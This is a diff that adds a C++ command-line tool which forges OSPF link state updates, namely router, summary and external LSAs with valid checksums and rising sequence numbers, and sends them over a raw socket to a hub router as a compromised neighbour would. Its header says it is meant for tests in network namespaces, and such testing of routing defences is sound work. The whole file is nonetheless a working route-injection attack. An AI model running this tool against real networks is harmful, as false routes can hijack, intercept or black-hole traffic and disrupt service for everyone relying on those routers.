@@ -1,0 +1,170 @@
+// Forges OSPF link state updates, as a site that its operator turned hostile
+// could: from the site's own tunnel address and under its own router-id in the
+// packet's header, so that the hub takes them from its neighbour; what the LSAs
+// within claim is a lie. For tests in namespaces only.
+//
+//   forger INTERFACE SOURCE HUB ROUTER-ID TYPE ID ORIGINATOR SEQUENCE COUNT [WORD...]
+//
+// TYPE: router, summary, external. SEQUENCE: the first (hexadecimal); each of COUNT LSAs,
+// one every 300 ms, is 16 further on. WORDs of a router LSA: link:ROUTER-ID:DATA, stub:NETWORK:MASK;
+// of the others: mask:MASK.
+#include <array>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <string>
+#include <vector>
+
+#include <arpa/inet.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <time.h>
+
+namespace {
+
+using Bytes = std::vector<std::uint8_t>;
+
+void put8(Bytes& out, unsigned value) { out.push_back(static_cast<std::uint8_t>(value)); }
+void put16(Bytes& out, unsigned value) {
+  put8(out, value >> 8 & 0xff);
+  put8(out, value & 0xff);
+}
+void put32(Bytes& out, std::uint32_t value) {
+  put16(out, value >> 16);
+  put16(out, value & 0xffff);
+}
+std::uint32_t address(const std::string& text) {
+  in_addr parsed{};
+  if (::inet_pton(AF_INET, text.c_str(), &parsed) != 1) {
+    std::fprintf(stderr, "not an address: %s\n", text.c_str());
+    std::exit(2);
+  }
+  return ntohl(parsed.s_addr);
+}
+void set16(Bytes& bytes, std::size_t at, unsigned value) {
+  bytes[at] = static_cast<std::uint8_t>(value >> 8);
+  bytes[at + 1] = static_cast<std::uint8_t>(value & 0xff);
+}
+
+// RFC 905, annex B, over the LSA without its age; the checksum is at 16.
+void fletcher(Bytes& lsa) {
+  const std::size_t from = 2;
+  const int offset = 16 - static_cast<int>(from);
+  int c0 = 0;
+  int c1 = 0;
+  for (std::size_t i = from; i < lsa.size(); ++i) {
+    c0 = (c0 + lsa[i]) % 255;
+    c1 = (c1 + c0) % 255;
+  }
+  const int length = static_cast<int>(lsa.size() - from);
+  int x = ((length - offset - 1) * c0 - c1) % 255;
+  if (x <= 0) x += 255;
+  int y = 510 - c0 - x;
+  if (y > 255) y -= 255;
+  lsa[16] = static_cast<std::uint8_t>(x);
+  lsa[17] = static_cast<std::uint8_t>(y);
+}
+
+void internet_checksum(Bytes& packet) {
+  std::uint32_t sum = 0;
+  for (std::size_t i = 0; i + 1 < packet.size(); i += 2)
+    if (i < 16 || i >= 24) sum += static_cast<std::uint32_t>(packet[i] << 8 | packet[i + 1]);  // the authentication is left out
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  set16(packet, 12, ~sum & 0xffff);
+}
+
+std::vector<std::string> split(const std::string& text) {
+  std::vector<std::string> parts{""};
+  for (const char c : text) {
+    if (c == ':') parts.emplace_back();
+    else parts.back() += c;
+  }
+  return parts;
+}
+
+Bytes lsa_of(const std::string& type, std::uint32_t id, std::uint32_t originator, std::uint32_t sequence,
+             const std::vector<std::string>& words) {
+  Bytes lsa;
+  put16(lsa, 1);    // age
+  put8(lsa, 0x02);  // options: E
+  put8(lsa, type == "router" ? 1 : type == "summary" ? 3 : 5);
+  put32(lsa, id);
+  put32(lsa, originator);
+  put32(lsa, sequence);
+  put16(lsa, 0);  // checksum
+  put16(lsa, 0);  // length
+  if (type == "router") {
+    put16(lsa, 0);
+    put16(lsa, static_cast<unsigned>(words.size()));
+    for (const auto& word : words) {
+      const auto parts = split(word);
+      put32(lsa, address(parts[1]));
+      put32(lsa, address(parts[2]));
+      put8(lsa, parts[0] == "link" ? 1 : 3);
+      put8(lsa, 0);
+      put16(lsa, 1);  // metric
+    }
+  } else {
+    put32(lsa, address(split(words.at(0))[1]));
+    put32(lsa, 1);  // metric, of type 1
+    if (type == "external") {
+      put32(lsa, 0);  // forwarding address
+      put32(lsa, 0);  // tag
+    }
+  }
+  set16(lsa, 18, static_cast<unsigned>(lsa.size()));
+  fletcher(lsa);
+  return lsa;
+}
+
+Bytes update_of(std::uint32_t router_id, const Bytes& lsa) {
+  Bytes packet;
+  put8(packet, 2);
+  put8(packet, 4);
+  put16(packet, static_cast<unsigned>(24 + 4 + lsa.size()));
+  put32(packet, router_id);
+  put32(packet, 0);  // area
+  put16(packet, 0);  // checksum
+  put16(packet, 0);  // no authentication
+  put32(packet, 0);
+  put32(packet, 0);
+  put32(packet, 1);  // one LSA
+  packet.insert(packet.end(), lsa.begin(), lsa.end());
+  internet_checksum(packet);
+  return packet;
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  if (argc < 10) {
+    std::fprintf(stderr, "usage: forger INTERFACE SOURCE HUB ROUTER-ID TYPE ID ORIGINATOR SEQUENCE COUNT [WORD...]\n");
+    return 2;
+  }
+  const std::vector<std::string> args(argv + 1, argv + argc);
+  const std::vector<std::string> words(args.begin() + 9, args.end());
+  const int fd = ::socket(AF_INET, SOCK_RAW, 89);
+  sockaddr_in source{};
+  source.sin_family = AF_INET;
+  source.sin_addr.s_addr = htonl(address(args[1]));
+  sockaddr_in hub = source;
+  hub.sin_addr.s_addr = htonl(address(args[2]));
+  const int ttl = 1;
+  if (fd < 0 || ::setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, args[0].c_str(), static_cast<socklen_t>(args[0].size())) != 0 ||
+      ::setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof ttl) != 0 ||
+      ::bind(fd, reinterpret_cast<sockaddr*>(&source), sizeof source) != 0) {
+    std::perror("forger");
+    return 1;
+  }
+  auto sequence = static_cast<std::uint32_t>(std::strtoul(args[7].c_str(), nullptr, 16));
+  for (int i = 0; i < std::atoi(args[8].c_str()); ++i) {
+    const auto packet = update_of(address(args[3]), lsa_of(args[4], address(args[5]), address(args[6]), sequence, words));
+    ::sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&hub), sizeof hub);
+    sequence += 16;
+    timespec pause{0, 300'000'000};
+    ::nanosleep(&pause, nullptr);
+  }
+  return 0;
+}
